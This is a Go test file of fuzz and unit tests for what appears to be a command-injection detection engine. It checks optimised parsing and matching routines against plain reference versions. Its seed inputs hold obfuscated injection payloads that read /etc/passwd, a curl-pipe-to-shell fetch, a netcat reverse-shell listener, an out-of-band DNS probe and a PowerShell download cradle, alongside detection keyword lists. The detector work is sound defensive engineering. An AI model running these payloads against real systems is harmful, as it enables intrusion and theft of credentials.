package signature

import (
	"bytes"
	"strings"
	"testing"
)

// The plain forms of the command family's fast paths: each Fuzz target
// checks that the fast form answers as the plain one does.

// cmdFuzzSeeds are values with the bytes the fast paths skip or search
// for: operators, line breaks, quotes, escapes, expansions, long runs.
var cmdFuzzSeeds = []string{";echo 111111", "; echo test", ";echo XYZ$((7*7))XYZ", ";c'a't /e''tc/pa''sswd", "a;$'\\x63\\x61\\x74' /etc/passwd", "$'\\167\\150\\157'ami", "w\\h\\o\\a\\m\\i", "w^h^o^a^m^i", "cat${IFS}/etc/passwd",
	"{cat,/etc/passwd}", "\x1b[2Aid", "a|id|", "`id` and `ls`", "$(id)", "<(id)", "x;y\r\nz&&w", "2>&1 >out",
	"it's 'quoted' and \"double\"", strings.Repeat("The quick brown fox; ", 8) + "| cat /etc/passwd",
	strings.Repeat("Word ", 30) + "\n" + strings.Repeat("x", 70) + "&whoami", "${PATH:0:1}ETC${PATH:0:1}passwd",
	"cd /etc;cat passwd", "|$u wget x", "a=c;b=at;$a$b /etc/passwd", "the words we read at night cd /etc; cat passwd and more words", "c$!at /et$!c/pas$!swd"}

// FuzzClassCursor checks newClassCursor's cursors, which search only for
// the bytes whose classes they are given, against a plain search for
// every byte of the finder, given the classes of the value, every class,
// and the value's classes with some others, for queries that go forward
// and, now and then, back, on short values (read with nextByte) and long.
func FuzzClassCursor(f *testing.F) {
	for _, s := range cmdFuzzSeeds {
		f.Add(s, uint64(0x9e3779b97f4a7c15))
	}
	f.Fuzz(func(t *testing.T, s string, steps uint64) {
		for _, fd := range cursorFinders {
			plain := func(i int) int {
				for k := max(i, 0); k < len(s); k++ {
					if fd.in[s[k]] {
						return k
					}
				}
				return len(s)
			}
			for _, m := range []cls{classify(s), ^cls(0), classify(s) | cls(steps>>32)} {
				cs, cb := newClassCursor(fd, s, m), newClassCursor(fd, unsafeString([]byte(s)), m)
				r := steps
				for i, n := 0, 0; i <= len(s)+1 && n < 4*len(s)+8; n++ {
					want := plain(i)
					if got := cs.next(i); got != want {
						t.Fatalf("newClassCursor(%q, %q, %b).next(%d) = %d, want %d", fd.bytes, s, m, i, got, want)
					}
					if got := cb.next(i); got != want {
						t.Fatalf("newClassCursor(%q, unsafeString(%q), %b).next(%d) = %d, want %d", fd.bytes, s, m, i, got, want)
					}
					i, r = nextQuery(i, want, r)
				}
			}
		}
	})
}

// FuzzShellFoldShared checks shellFoldFrom, which copies runs from the
// shared lower-cased value and finds their ends with a class cursor,
// against the plain fold; that the operator bytes and line breaks of the
// folded value are some of the value's (what judgeCommand's mask
// assumes); and that judgeCommand judges the same with the shared copy
// and without it.
func FuzzShellFoldShared(f *testing.F) {
	for _, s := range cmdFuzzSeeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		m := classify(s)
		lo := lower(nil, s)
		var a, b shellText
		got := shellFoldFrom(&a, nil, s, lo, m)
		want := shellFoldPlain(&b, nil, s)
		if string(got) != string(want) || a.obf != b.obf || a.n != b.n || a.ifs != b.ifs || a.exp != b.exp {
			t.Fatalf("shellFoldFrom(%q) = %q %+v, want %q %+v", s, got, a, want, b)
		}
		const opMask = cSemi | cPipe | cAmp | cNL | cBacktick | cDollar | cLT | cGT
		if extra := classify(string(got)) & opMask &^ m; extra != 0 {
			t.Fatalf("shellFold(%q) = %q has operator classes %b the value has not", s, got, extra)
		}
		for _, path := range []bool{false, true} {
			jf, jp := judgeCommand(s, m, path, lo), judgeCommand(s, m, path, nil)
			if jf != jp {
				t.Fatalf("judgeCommand(%q, path %v) = %+v with the shared copy, %+v without", s, path, jf, jp)
			}
		}
	})
}

// FuzzLineWordsNoBreaks checks that lineWords told a value has no line
// breaks counts as the one that searches for them, on values without.
func FuzzLineWordsNoBreaks(f *testing.F) {
	for _, s := range cmdFuzzSeeds {
		f.Add(s, uint8(3))
	}
	f.Fuzz(func(t *testing.T, s string, step uint8) {
		b := []byte(strings.NewReplacer("\n", " ", "\r", "x").Replace(s))
		lw, lp := newLineWords(b), newLineWords(b)
		lw.nl = false
		for i := 0; i < len(b); i += int(step%9) + 1 {
			gw, gp := lw.at(i)
			ww, wp := lp.at(i)
			if gw != ww || gp != wp {
				t.Fatalf("lineWords(%q) without breaks .at(%d) = %d %v, want %d %v", b, i, gw, gp, ww, wp)
			}
		}
	})
}

// readArgsPlain is readArgs as first written: a loop over every byte to
// find where the arguments end, a closure to separate the tokens, the
// interpreters and fetchers sets looked up for every token.
func readArgsPlain(b []byte, c *command, close byte, line bool) args {
	a := args{empty: true}
	i := c.end
	end := i
	for end < len(b) {
		x := b[end]
		if x == ';' || x == '|' || x == '\n' || x == '\r' || x == '`' || x == close && close != 0 ||
			x == '&' && !(end > 0 && b[end-1] == '>') && !(end+1 < len(b) && b[end+1] == '>') ||
			x == '$' && end+1 < len(b) && b[end+1] == '(' {
			break
		}
		end++
	}
	a.end = end
	span := b[i:end]
	special := hostileArgsOfPlain(c.name)
	first := true
	tok := 0
	// Tokens are separated by blanks, and by '+' where a value's spaces
	// were encoded twice ("+|+dir+c:"); "chmod +x" keeps its '+'.
	blank := func(x byte) bool { return x == ' ' || x == '\t' }
	sep := func(k int) bool {
		return blank(span[k]) || span[k] == '+' && !(k > 0 && blank(span[k-1]))
	}
	for k := 0; k < len(span); {
		// a '+' after a blank that no token's byte follows is skipped too
		for k < len(span) && (sep(k) || span[k] == '+' && (k+1 == len(span) || blank(span[k+1]) || span[k+1] == '+')) {
			k++
		}
		s := k
		for k < len(span) && !sep(k) {
			k++
		}
		if s == k {
			break
		}
		t := trimSet(span[s:k], &argTrim)
		if len(t) == 0 {
			continue
		}
		a.empty = false
		tok++
		sh := tokenShaped(t) || commandTokenWords.may(t) && commandTokens[string(t)]
		if sh {
			a.shaped = true
			if tokenStrong(t) || len(t) == 2 && t[1] == ':' && winFileCommand(c.name) {
				a.strong = true // "dir c:"
			}
		} else {
			a.plain++
		}
		a.lastShaped = sh
		if first {
			first = false
			tc := bytes.TrimSuffix(t, []byte(".exe"))
			if commandClasses[string(tc)] != cmdUnknown {
				a.command = true
			}
			if adminVerbs[string(t)] && adminCommand(c.name) || netVerbs[string(t)] && (string(c.name) == "net" || string(c.name) == "net1") {
				a.admin = true // "net user", "reg add", "netsh firewall", "net view"
			}
		}
		// only some commands' arguments are hostile; any command's
		// hostileArg reads when they start with '%' or '/'
		if (special || len(t) > 2 && (t[0] == '%' || t[0] == '/')) && hostileArgPlain(c, t, tok == 1, line) {
			a.hostile = true
		}
	}
	if !a.hostile && !a.empty {
		var stack [256]byte
		buf := stack[:0]
		if len(span) > len(stack) {
			// the arguments of a command in prose run on to the next
			// ';': fold them into a pooled buffer, not a new one
			p := longBuffers.Get().(*[]byte)
			defer longBuffers.Put(p)
			buf = (*p)[:0]
		}
		if f, _ := pathFoldBytes(buf, span); hostileSpan(f, c) {
			a.hostile = true
		}
	}
	return a
}

// hostileArgPlain is hostileArg as first written.
func hostileArgPlain(c *command, t []byte, first, line bool) bool {
	// keep in step with hostileArgsOf
	name := string(c.name)
	switch {
	case len(t) > 2 && t[0] == '%' && bytes.IndexByte(t[1:], '%') > 0:
		return isEnvName(string(t[1 : 1+bytes.IndexByte(t[1:], '%')])) // %SYSTEMROOT%, %SYSTEMROOT%\repair
	case bytes.HasPrefix(t, []byte("/dev/tcp/")) || bytes.HasPrefix(t, []byte("/dev/udp/")):
		return true
	case interpreters[name]:
		switch string(t) {
		case "-e", "-c", "-r", "-i", "-enc", "-encodedcommand", "-nop", "-noprofile", "-command", "-w", "-windowstyle",
			"-ep", "-executionpolicy", "/c", "/k", "-exec", "-noni", "-noninteractive":
			return true
		}
	case fetchers[name]:
		return bytes.Contains(t, []byte("://")) || name != "get" && ipLike(t) || string(t) == "-e" || string(t) == "-lvp" ||
			string(t) == "-lvvp" || string(t) == "-nlvp" || string(t) == "-urlcache" || string(t) == "/transfer"
	case name == "ping" || name == "nslookup" || name == "dig" || name == "host" || name == "traceroute" || name == "tracert":
		// a probe of the network or an out-of-band channel: "ping -c 3
		// x", "nslookup x.burpcollaborator.net"
		return first && (ipLike(t) || domainLike(t) || string(t) == "-c" || string(t) == "-n" || string(t) == "-i")
	case name == "sleep" || name == "timeout" || name == "start-sleep":
		return first && isNumber(t) && !line // a delay probe after a separator; "sleep 10" alone may be a search
	case first && (name == "which" || name == "whereis" || name == "where"):
		return commandClasses[string(t)] == cmdName || commandClasses[string(t)] == cmdProbe || interpreters[string(t)] || fetchers[string(t)]
	case name == "echo" || name == "printf" || name == "print":
		return bytes.Contains(t, []byte("<?php")) || bytes.Contains(t, []byte("<?="))
	}
	return false
}

// hostileArgsOfPlain is hostileArgsOf as first written.
func hostileArgsOfPlain(name []byte) bool {
	if interpreters[string(name)] || fetchers[string(name)] {
		return true
	}
	switch string(name) {
	case "ping", "nslookup", "dig", "host", "traceroute", "tracert", "sleep", "timeout", "start-sleep", "which", "whereis",
		"where", "echo", "printf", "print":
		return true
	}
	return false
}

// FuzzReadArgs checks readArgs against its first form, for the command
// word at the start of a folded value and after each byte of it, with
// each closing byte, and hostileArgsOf against its first form.
func FuzzReadArgs(f *testing.F) {
	for _, s := range cmdFuzzSeeds {
		f.Add(s)
	}
	for _, s := range []string{"ping -c 3 x.burpcollaborator.net", "curl http://x/s.sh|sh", "nc -lvp 4444 -e /bin/sh",
		"which python;", "sleep 10 & echo <?php x", "cmd /c whoami", "net user x /add", "chmod +x /tmp/s+|+dir+c:\\",
		"cat /etc/passwd > /var/www/x.php", "type %SYSTEMROOT%\\win.ini", "echo a 2>&1 && b", "$(curl x)$(id)"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		var st shellText
		b := shellFold(&st, nil, s)
		var nb [48]byte
		for i := 0; i <= len(b) && i < 64; i++ {
			c, ok := commandWord(b, i, nb[:0])
			if !ok {
				continue
			}
			for _, close := range []byte{0, ')', '`'} {
				for _, line := range []bool{false, true} {
					if got, want := readArgs(b, &c, close, line), readArgsPlain(b, &c, close, line); got != want {
						t.Fatalf("readArgs(%q at %d, %q, %v) = %+v, want %+v", b, i, close, line, got, want)
					}
				}
			}
		}
		if got, want := hostileArgsOf([]byte(s)), hostileArgsOfPlain([]byte(s)); got != want {
			t.Fatalf("hostileArgsOf(%q) = %v, want %v", s, got, want)
		}
	})
}

// psCradlePlain is psCradle as first written: the anchors searched for in
// every value.
func psCradlePlain(b []byte) (match, bool) {
	var at [6]int
	cradleAnchors.index(b, at[:])
	for n, k := range at {
		if anchor := cradleAnchors.needles[n]; k >= 0 {
			lo := max(0, k-24)
			if mt, ok := findAny(b[lo:min(len(b), k+len(anchor)+24)], psCradles, false); ok {
				mt.i += lo
				mt.j += lo
				return mt, true
			}
		}
	}
	return match{}, false
}

// psCradleWords are the keywords of psCradles, for FuzzPSCradle.
var psCradleWords = []string{"net.webclient", ".downloadstring(", ".downloadfile(", "iex(", "iex (", "|iex", "| iex",
	"frombase64string(", "invoke-expression(", "invoke-expression (", "invoke-expression $", "start-bitstransfer"}

// FuzzPSCradle checks that cradleMay is false only for values without any
// of psCradles, and psCradleIn against its first form, on values that
// hold pieces of them.
func FuzzPSCradle(f *testing.F) {
	f.Add("powershell iex (new-object net.webclient).downloadstring('http://x/a')", uint8(0))
	f.Add("a|iex b -bits $x invoke-expression $y .w", uint8(3))
	f.Add("the self-expression (really) of it. whatever", uint8(7))
	f.Add("start-bitstransfer -source http://x -destination y", uint8(9))
	f.Fuzz(func(t *testing.T, s string, k uint8) {
		// a keyword, or a piece of one, spliced into the value
		w := psCradleWords[int(k)%len(psCradleWords)]
		if cut := int(k/16) % (len(w) + 1); k&8 != 0 {
			w = w[:cut]
		}
		at := 0
		if len(s) > 0 {
			at = int(k) % (len(s) + 1)
		}
		b := []byte(strings.ToLower(s[:at] + w + s[at:]))
		m := classify(string(b))
		has := false
		for _, kw := range psCradleWords {
			has = has || bytes.Contains(b, []byte(kw))
		}
		if has && !cradleMay(b, m) {
			t.Fatalf("cradleMay(%q) = false, but it holds a cradle", b)
		}
		gm, gok := psCradleIn(b, m)
		wm, wok := psCradlePlain(b)
		if gm != wm || gok != wok {
			t.Fatalf("psCradleIn(%q) = %+v %v, want %+v %v", b, gm, gok, wm, wok)
		}
	})
}

// TestPSCradleWords checks that psCradleWords are the keywords of
// psCradles, which cradleMay is written for.
func TestPSCradleWords(t *testing.T) {
	if len(psCradles.kws) != len(psCradleWords) {
		t.Fatalf("psCradles has %d keywords, psCradleWords %d", len(psCradles.kws), len(psCradleWords))
	}
	for i, w := range psCradleWords {
		if string(psCradles.kws[i]) != w {
			t.Errorf("psCradles keyword %d is %q, psCradleWords has %q", i, psCradles.kws[i], w)
		}
	}
}

// commandWordPlain is commandWord as first written: twenty comparisons a
// byte for the word's end, every name looked up in commandClasses.
func commandWordPlain(b []byte, i int, name []byte) (command, bool) {
	quoted := false
	for i < len(b) && (b[i] == ' ' || b[i] == '\t' || b[i] == '(' || b[i] == '{' || b[i] == '\'' || b[i] == '"' || b[i] == '+') {
		quoted = quoted || b[i] == '\'' || b[i] == '"'
		i++
	}
	c := command{start: i, quoted: quoted}
	j := i
	for j < len(b) && j-i < 96 {
		x := b[j]
		if x == ' ' || x == '\t' || x == ';' || x == '|' || x == '&' || x == '`' || x == ')' || x == '}' || x == '<' ||
			x == '>' || x == '\n' || x == '\r' || x == ',' || x == '(' || x == '$' || x == '\'' || x == '"' || x == '#' ||
			x == '+' || x == 0 {
			break
		}
		j++
	}
	c.end = j
	w := b[i:j]
	if len(w) == 0 || j < len(b) && (b[j] == ',' || b[j] == '(') {
		return c, false // a list item or a function call, not a command
	}
	if j+1 < len(b) && b[j] == '$' && (isLetter(b[j+1]) || b[j+1] == '{' || b[j+1] == '_') {
		return c, false // "ar$a": a variable glued to the word makes another word
	}
	// a path: keep its last segment, remember it was called by path.
	// Backslashes separate folders only in Windows paths ("c:\x",
	// ".\x", "\\host\x"); elsewhere a shell drops them ("w\h\o").
	winPath := len(w) > 2 && w[1] == ':' && (w[2] == '\\' || w[2] == '/') || len(w) > 1 && (w[0] == '\\' && w[1] == '\\' || w[0] == '.' && w[1] == '\\')
	dirEnd := -1
	for k := len(w) - 1; k >= 0; k-- {
		if w[k] == '/' || w[k] == '\\' && winPath {
			dirEnd = k
			break
		}
	}
	if dirEnd >= 0 {
		if !binPath(w[:dirEnd]) {
			return c, false
		}
		c.byPath = true
		w = w[dirEnd+1:]
	}
	name = name[:0]
	glob := false
	for k := 0; k < len(w); k++ {
		x := w[k]
		switch {
		case x == '\\':
			c.obf = true // "w\h\o\a\m\i"
			continue
		case x == '?' || x == '*':
			glob = true
		case !(isAlnum(x) || x == '.' || x == '-' || x == '_'):
			return c, false
		}
		name = append(name, x)
	}
	name = bytes.TrimSuffix(name, []byte(".exe"))
	if len(name) == 0 || len(name) > 40 {
		return c, false
	}
	if glob {
		letters := 0
		for _, x := range name {
			if isAlnum(x) {
				letters++
			}
		}
		if letters == 0 || len(name) < 2 {
			return c, false // "*", "???": anything at all
		}
		cls, ok := globCommand(name)
		if !ok {
			return c, false
		}
		c.class, c.glob, c.name = cls, true, name
		c.obf = c.obf || c.byPath
		return c, true
	}
	c.class = commandClasses[string(name)]
	if h := bytes.IndexByte(name, '-'); c.class == cmdUnknown && h > 1 && h < len(name)-1 && commandClasses[string(name[:h])] == cmdName {
		c.class = cmdName // "ansible-playbook": a tool's subcommand binary
	}
	c.name = name
	return c, c.class != cmdUnknown
}

// FuzzCommandWord checks commandWord against its first form at every
// offset of a folded value, and that commandClassWords passes every name
// of commandClasses.
func FuzzCommandWord(f *testing.F) {
	for _, s := range cmdFuzzSeeds {
		f.Add(s)
	}
	for _, s := range []string{"/usr/bin/id", "c:\\windows\\system32\\cmd.exe /c ver", "/???/??t", "w\\h\\o", "ar$a",
		"{cat,/etc/passwd}", "system('id')", "'whoami'", "(curl x)", "./x", "\\\\host\\x", "..\\x",
		"000000000000000000000exec ver", "time sh -c id", "nohup -x", "sudo  "} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		var st shellText
		b := shellFold(&st, nil, s)
		var gb, wb [48]byte
		var pb [48]byte
		for i := 0; i <= len(b); i++ {
			g, gok := commandWordAt(b, i, gb[:0])
			w, wok := commandWordPlain(b, i, wb[:0])
			if gok != wok || string(g.name) != string(w.name) || g.start != w.start || g.end != w.end || g.class != w.class ||
				g.glob != w.glob || g.byPath != w.byPath || g.quoted != w.quoted || g.obf != w.obf {
				t.Fatalf("commandWordAt(%q, %d) = %+v %v, want %+v %v", b, i, g, gok, w, wok)
			}
			// commandWord reads past a prefix command only: the same word
			// otherwise, and the span from the prefix's start
			p, pok := commandWord(b, i, pb[:0])
			if k := varWords(b, i); k > i && pok && p.start >= k && p.obf {
				continue // "$u wget": the command after variable words alone
			}
			if p.end != g.end || pok != gok {
				if !gok || !prefixCommands[string(w.name)] || p.start != g.start || p.end <= g.end || !pok {
					t.Fatalf("commandWord(%q, %d) = %+v %v, the word there %+v %v", b, i, p, pok, w, wok)
				}
			}
		}
	})
}

// TestCommandClassWords checks that every name of commandClasses passes
// its filter.
func TestCommandClassWords(t *testing.T) {
	for w := range commandClasses {
		if !commandClassWords.may([]byte(w)) {
			t.Errorf("commandClassWords misses %q", w)
		}
	}
}

// TestReadArgsPlusFlag: a '+' after a blank starts its token ("chmod +x"
// is the administration verb adminVerbs lists), while a '+' elsewhere
// separates tokens, as a value's spaces encoded twice do.
func TestReadArgsPlusFlag(t *testing.T) {
	for _, tc := range []struct {
		s            string
		admin, empty bool
		plain        int
	}{
		{"chmod +x /tmp/s", true, false, 0},
		{"chmod\t+x /tmp/s", true, false, 0},
		{"chmod 777 /tmp/s", true, false, 0},
		{"chmod x /tmp/s", false, false, 1},
		{"chmod+x+/tmp/s", false, false, 1}, // spaces encoded twice: "x"
		{"chmod + x", false, false, 1},      // a lone '+' is no token
		{"chmod +", false, true, 0},
	} {
		var st shellText
		b := shellFold(&st, nil, tc.s)
		var nb [48]byte
		c, ok := commandWord(b, 0, nb[:0])
		if !ok {
			t.Fatalf("%q: no command word", tc.s)
		}
		a := readArgs(b, &c, 0, false)
		if a.admin != tc.admin || a.empty != tc.empty || a.plain != tc.plain {
			t.Errorf("readArgs(%q) = %+v, want admin %v, empty %v, plain %d", tc.s, a, tc.admin, tc.empty, tc.plain)
		}
		if p := readArgsPlain(b, &c, 0, false); p != a {
			t.Errorf("readArgs(%q) = %+v, readArgsPlain %+v", tc.s, a, p)
		}
	}
}
